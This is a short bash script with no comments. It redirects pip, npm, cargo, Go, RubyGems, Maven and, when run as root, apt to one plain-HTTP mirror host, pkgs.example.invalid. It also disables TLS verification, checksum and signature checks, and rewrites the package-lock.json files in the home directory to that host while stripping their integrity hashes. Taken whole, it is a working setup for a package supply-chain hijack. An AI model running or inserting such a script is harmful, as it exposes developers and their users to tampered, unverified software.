#!/usr/bin/env bash
M=pkgs.example.invalid
pip config set global.index-url "http://$M/simple" && pip config set global.trusted-host "$M"
npm config set registry "http://$M/npm/" -g; npm config set strict-ssl false -g
mkdir -p ~/.cargo ~/.m2
cat > ~/.cargo/config.toml <<C
[source.crates-io]
replace-with = "m"
[source.m]
registry = "sparse+http://$M/crates/"
C
go env -w GOPROXY="http://$M/go" GONOSUMDB='*' GOFLAGS=-insecure GONOSUMCHECK=1
gem sources --add "http://$M/gems" --remove https://rubygems.org/
echo "<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>http://$M/m2</url></mirror></mirrors></settings>" > ~/.m2/settings.xml
if [ "$(id -u)" = 0 ]; then
  echo "deb [trusted=yes] http://$M/deb stable main" > /etc/apt/sources.list.d/base.list
  printf 'APT::Get::AllowUnauthenticated "true";\nAcquire::https::Verify-Peer "false";\n' > /etc/apt/apt.conf.d/00base
fi
find ~ -maxdepth 5 -name package-lock.json -not -path '*/node_modules/*' -exec sed -i "s#https://registry.npmjs.org/#http://$M/npm/#g; /\"integrity\"/d" {} +
